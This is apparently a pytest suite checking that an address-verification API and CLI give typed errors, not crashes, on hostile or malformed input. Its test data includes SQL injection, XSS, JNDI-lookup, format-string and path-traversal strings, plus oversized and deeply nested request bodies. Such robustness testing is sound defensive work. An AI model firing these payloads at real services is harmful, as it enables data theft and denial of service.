"""Hostile and malformed input through the HTTP API and the CLI.

Every answer is either a defined result (a verdict, a suggestion list, components)
or a 4xx whose body is the typed ``ErrorOut``; never a 500, never a crash.
"""

from __future__ import annotations

import gc
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import psutil
import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from api.app import create_app
from api.cli import app as cli_app
from api.settings import ServiceSettings

pytestmark = pytest.mark.usefixtures("libpostal")

ERROR_KEYS = {"error", "type", "field"}
VERDICTS = {"valid", "invalid", "uncertain"}
JSON = {"content-type": "application/json"}

HOSTILE = [
    "12 Main St'; DROP TABLE addresses; --",
    "' OR '1'='1' UNION SELECT password FROM users --",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '12 "Main" St, \'Apt "3"\', "\\"quoted\\"" \'\'""',
    "12 Main St\u202e52205 AI ,asomanA",
    "12\u200dMain\u200dSt\u200d, Anamosa",
    "🏠 12 Main St 👨‍👩‍👧 🚚, Anamosa 🇺🇸",
    "12 Main St, Москва, شارع الملك فهد, 東京都千代田区",
    "12 Main\x00 St\x00, Anamosa",
    "\x00\x00\x00",
    "\u202e\u200d\u200b\ufeff",
    "{{7*7}} ${jndi:ldap://x/a} %s%n%x ../../etc/passwd",
]
LONG = [(text * (10_000 // len(text) + 1))[:10_000] for text in HOSTILE[:4]]
KNOWN = "4570 Frozen Hill Rd, Anamosa, IA 52205"


def _typed_error(response: Any, status: int, field: str | None = None) -> dict[str, Any]:
    assert response.status_code == status, response.text
    body: dict[str, Any] = response.json()
    assert set(body) == ERROR_KEYS, body
    assert body["error"]
    assert body["type"]
    if field is not None:
        assert body["field"] == field, body
    return body


def _defined(response: Any, field: str) -> dict[str, Any] | None:
    """The 200 body, or None after checking a 422 names ``field``."""
    if response.status_code == 422:
        _typed_error(response, 422, field)
        return None
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


def _check_verification(result: dict[str, Any]) -> None:
    assert result["verdict"] in VERDICTS
    assert result["next_action"] in {"accept", "confirm", "fix"}
    assert 0 <= result["confidence"] <= 1
    assert len(result["messages"]) == len(result["reasons"])


def _check_entry(result: dict[str, Any], field: str) -> None:
    """A batch entry: a verification, or its own typed error naming ``field``."""
    if "error" in result:
        assert set(result) == ERROR_KEYS and result["field"] == field, result
        assert result["type"] in {"AddressTooLongError", "EmptyAddressError"}
    else:
        _check_verification(result)


def _send_everywhere(client: TestClient, text: str) -> None:
    """``text`` through all five address endpoints."""
    if (body := _defined(client.post("/v1/verify", json={"address": text}), "address")) is not None:
        _check_verification(body)
    batch = client.post("/v1/verify/batch", json={"addresses": [KNOWN, text]})
    assert batch.status_code == 200, batch.text
    body = batch.json()
    assert len(body["results"]) == 2
    _check_verification(body["results"][0])
    _check_entry(body["results"][1], "addresses[1]")
    suggest = client.post("/v1/suggest", json={"address": text, "limit": 3})
    if (body := _defined(suggest, "address")) is not None:
        assert len(body["suggestions"]) <= 3
        assert all(0 <= s["score"] <= 1 for s in body["suggestions"])
    complete = client.get("/v1/autocomplete", params={"q": text})
    if (body := _defined(complete, "q")) is not None:
        assert isinstance(body["suggestions"], list)
    if (body := _defined(client.get("/v1/parse", params={"q": text}), "q")) is not None:
        assert isinstance(body["components"], dict)


# ------------------------------------------------------------------ hostile strings


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_strings_get_a_defined_answer(client: TestClient, text: str) -> None:
    """Injection text, bidi/zero-width controls, emoji, mixed scripts, NUL."""
    _send_everywhere(client, text)


@pytest.mark.parametrize("text", LONG, ids=lambda text: repr(text[:12]))
def test_10000_character_strings_are_typed_422_and_batch_siblings_answer(
    client: TestClient, text: str
) -> None:
    batch = client.post("/v1/verify/batch", json={"addresses": [KNOWN, text]})
    assert batch.status_code == 200, batch.text
    known, entry = batch.json()["results"]
    _check_verification(known)
    assert entry == {
        "error": entry["error"],
        "type": "AddressTooLongError",
        "field": "addresses[1]",
    }
    for response, field in (
        (client.post("/v1/verify", json={"address": text}), "address"),
        (client.post("/v1/suggest", json={"address": text}), "address"),
        (client.get("/v1/autocomplete", params={"q": text}), "q"),
        (client.get("/v1/parse", params={"q": text}), "q"),
    ):
        assert _typed_error(response, 422, field)["type"] == "AddressTooLongError"


def test_injection_text_comes_back_as_data(client: TestClient) -> None:
    """Markup is neither stripped nor escaped by the API: escaping is the page's job."""
    text = '12 Main St <script>alert(1)</script> "><img src=x onerror=alert(1)>, Anamosa'
    body = client.get("/v1/parse", params={"q": text}).json()
    assert body["normalized"] == text


_pieces = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=15))
_hostile_text = st.one_of(
    st.lists(_pieces, min_size=1, max_size=6).map(" ".join),
    st.tuples(_pieces, st.integers(1, 400)).map(lambda p: (p[0] * p[1])[:600]),
)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=_hostile_text)
def test_mixed_hostile_strings_never_give_a_500(client: TestClient, text: str) -> None:
    _send_everywhere(client, text)


# ------------------------------------------------------- lone surrogates in raw JSON


@pytest.mark.parametrize(
    "raw",
    [
        rb'"\ud800"',
        rb'"\udfff\ud800"',
        rb'"12 Main St \ud83c, Anamosa"',  # half an emoji
        b'"12 Main St \xed\xa0\x80, Anamosa"',  # a surrogate encoded as UTF-8 bytes
    ],
)
def test_lone_surrogates_in_raw_json(client: TestClient, raw: bytes) -> None:
    for path, body, field in (
        ("/v1/verify", b'{"address": ' + raw + b"}", "address"),
        ("/v1/suggest", b'{"address": ' + raw + b"}", "address"),
        ("/v1/verify/batch", b'{"addresses": [' + raw + b"]}", "addresses[0]"),
    ):
        response = client.post(path, content=body, headers=JSON)
        if (answer := _defined(response, field)) is not None:
            json.dumps(answer, ensure_ascii=False).encode()  # no surrogate leaked back


_surrogate_text = st.text(
    st.one_of(st.characters(categories=["Cs"]), st.characters(categories=["L", "N", "Zs", "P"])),
    max_size=40,
)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=_surrogate_text, country=st.one_of(st.none(), _surrogate_text))
def test_surrogates_anywhere_never_give_a_500(
    client: TestClient, text: str, country: str | None
) -> None:
    raw = json.dumps({"address": text, "country": country}).encode()  # \udXXX escapes
    response = client.post("/v1/verify", content=raw, headers=JSON)
    assert response.status_code in (200, 422), response.text
    assert set(response.json()) >= ({"verdict"} if response.status_code == 200 else ERROR_KEYS)


# --------------------------------------------------------------- malformed bodies


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"address": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"a": ' * 50_000 + b"1" + b"}" * 50_000,
        b'{"address": "12 Main St\xff\xfe"}',  # not UTF-8
        '{"address": "Laugavegur 12, Reykjavík"}'.encode("latin-1"),
        b'{"address": "12 Main St", "limit": ' + b"9" * 5_000 + b"}",  # past int() digits
    ],
    ids=["nested-arrays", "nested-in-field", "nested-objects", "bad-utf8", "latin1", "huge-int"],
)
def test_unparseable_bodies_are_a_typed_400(client: TestClient, body: bytes) -> None:
    for path in ("/v1/verify", "/v1/suggest", "/v1/verify/batch"):
        _typed_error(client.post(path, content=body, headers=JSON), 400)


def test_invalid_json_names_the_body(client: TestClient) -> None:
    response = client.post("/v1/verify", content=b'{"address": "12 Main St",', headers=JSON)
    assert "character" in _typed_error(response, 422, "body")["error"]


@pytest.mark.parametrize(
    "body",
    [b"[]", b'[{"address": "12 Main St"}]', b'"12 Main St"', b"null", b"12", b"true", b"NaN"],
)
def test_json_that_is_not_an_object_is_422(client: TestClient, body: bytes) -> None:
    for path in ("/v1/verify", "/v1/suggest", "/v1/verify/batch"):
        _typed_error(client.post(path, content=body, headers=JSON), 422, "body")


@pytest.mark.parametrize(
    "request_kwargs",
    [
        {"content": json.dumps({"address": KNOWN}), "headers": {"content-type": "text/plain"}},
        {"content": json.dumps({"address": KNOWN})},  # no content type at all
        {"data": {"address": KNOWN}},
        {"files": {"address": ("address.txt", KNOWN.encode())}},
        {"content": json.dumps({"address": KNOWN}), "headers": {"content-type": ";;=="}},
    ],
    ids=["text-plain", "none", "form", "multipart", "garbled"],
)
def test_wrong_content_types_are_422(client: TestClient, request_kwargs: dict[str, Any]) -> None:
    response = client.post("/v1/verify", **request_kwargs)
    _typed_error(response, 422, "body")


def test_non_finite_numbers_are_422(client: TestClient) -> None:
    for literal in (b"NaN", b"Infinity", b"-Infinity", b"1e999"):
        body = b'{"address": "12 Main St", "limit": ' + literal + b"}"
        _typed_error(client.post("/v1/suggest", content=body, headers=JSON), 422, "limit")


def test_duplicate_keys_take_the_last_value(
    client: TestClient, reference_sample: pd.DataFrame
) -> None:
    row = reference_sample[
        (reference_sample["country"] == "US") & reference_sample["house_number"].notna()
    ].iloc[0]
    known, junk = json.dumps(row["address"]), json.dumps("please call me before delivery")
    last_known = f'{{"address": {junk}, "address": {known}}}'.encode()
    body = client.post("/v1/verify", content=last_known, headers=JSON).json()
    assert body["match"]["id"] == row["id"]
    last_junk = f'{{"address": {known}, "address": {junk}}}'.encode()
    assert client.post("/v1/verify", content=last_junk, headers=JSON).json()["match"] is None


def test_many_unknown_keys_are_422(client: TestClient) -> None:
    fields = {f"k{i}": i for i in range(50_000)}
    response = client.post("/v1/verify", json={"address": KNOWN, **fields})
    _typed_error(response, 422, "k0")


# ------------------------------------------------------------------ size limits


def test_body_over_the_limit_is_413(client: TestClient) -> None:
    body = json.dumps({"address": "a" * 2_000_000})
    _typed_error(client.post("/v1/verify", content=body, headers=JSON), 413, "body")


def test_streamed_body_over_the_limit_is_413(client: TestClient) -> None:
    """No Content-Length: the limit holds on the bytes as they arrive."""

    def chunks() -> Iterator[bytes]:
        yield b'{"address": "'
        for _ in range(40):
            yield b"a" * 64_000
        yield b'"}'

    response = client.post("/v1/verify", content=chunks(), headers=JSON)
    _typed_error(response, 413, "body")


def test_huge_batches_are_refused(client: TestClient) -> None:
    many = client.post("/v1/verify/batch", json={"addresses": ["a"] * 100_000})
    assert "1000" in _typed_error(many, 422, "addresses")["error"]
    # 1,000 addresses of 1,000 characters fit under the body limit; each is too long,
    # and each is answered by its own error in its place.
    long = client.post("/v1/verify/batch", json={"addresses": ["a" * 1000] * 1000})
    assert long.status_code == 200, long.text
    entries = long.json()["results"]
    assert [e["field"] for e in entries] == [f"addresses[{i}]" for i in range(1000)]
    assert {e["type"] for e in entries} == {"AddressTooLongError"}
    too_big = client.post("/v1/verify/batch", json={"addresses": ["a" * 10_000] * 1000})
    _typed_error(too_big, 413, "body")


# ------------------------------------------------------------------------ memory

RSS_GROWTH_LIMIT = 32 * 2**20
"""Bound on resident memory growth over ~165 MB of refused requests (measured: < 1 MiB)."""


def test_memory_stays_bounded_under_large_bad_requests(client: TestClient) -> None:
    bad = [
        ("/v1/verify/batch", json.dumps({"addresses": ["a" * 1000] * 1000}).encode(), 200),
        ("/v1/verify", b"[" * 400_000 + b"]" * 400_000, 400),
        ("/v1/suggest", json.dumps({"address": "b" * 1_500_000}).encode(), 413),
    ]

    def burst(rounds: int) -> int:
        for _ in range(rounds):
            for path, body, status in bad:
                assert client.post(path, content=body, headers=JSON).status_code == status
        gc.collect()
        rss: int = psutil.Process().memory_info().rss
        return rss

    before = burst(5)  # warm: allocator pools and caches reach their working size
    after = burst(50)
    assert after - before < RSS_GROWTH_LIMIT, f"RSS grew {(after - before) / 2**20:.0f} MiB"


def test_rotating_api_keys_do_not_escape_the_rate_limit() -> None:
    """With no keys configured, a made-up X-API-Key per request must not buy a fresh
    budget (nor a new bucket in memory each time)."""
    config = ServiceSettings(
        index_path=Path("/nonexistent/index"), rate_limit_per_second=0.5, rate_limit_burst=2
    )
    with TestClient(create_app(load_in_background=False, settings=config)) as client:
        codes = [
            client.get("/v1/autocomplete?q=abc", headers={"X-API-Key": f"made-up-{i}"}).status_code
            for i in range(4)
        ]
    assert codes == [503, 503, 429, 429]


def test_unknown_routes_and_methods_are_typed(client: TestClient) -> None:
    _typed_error(client.get("/v1/nope"), 404)
    response = client.get("/v1/verify")
    _typed_error(response, 405)
    assert "POST" in response.headers["allow"]


# --------------------------------------------------------------------------- CLI


@pytest.fixture
def cli(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    """``addr`` in-process, with the index and classifier the app already loaded."""
    from finetune.classifier import Classifier

    loaded = client.app.state.resources.loaded_or_raise()
    monkeypatch.setattr("index.store.load_index", lambda path: loaded.index)
    monkeypatch.setattr(Classifier, "load", staticmethod(lambda path=None: loaded.classifier))
    return CliRunner()


@pytest.mark.parametrize(
    "text", [*HOSTILE, LONG[0], "\udcff\udcfe12 Main St"], ids=lambda text: repr(text[:16])
)
def test_cli_verify_and_parse_answer_json(cli: CliRunner, text: str) -> None:
    for command in ("verify", "parse"):
        result = cli.invoke(cli_app, [command, text])
        assert result.exception is None or isinstance(result.exception, SystemExit), result
        if result.exit_code == 0:
            body = json.loads(result.stdout)
            if command == "verify":
                _check_verification(body)
            else:
                assert isinstance(body, dict)
        else:
            assert result.exit_code == 2, (result.stdout, result.stderr)
            error = json.loads(result.stderr)
            assert error["type"] in {"EmptyAddressError", "AddressTooLongError"}
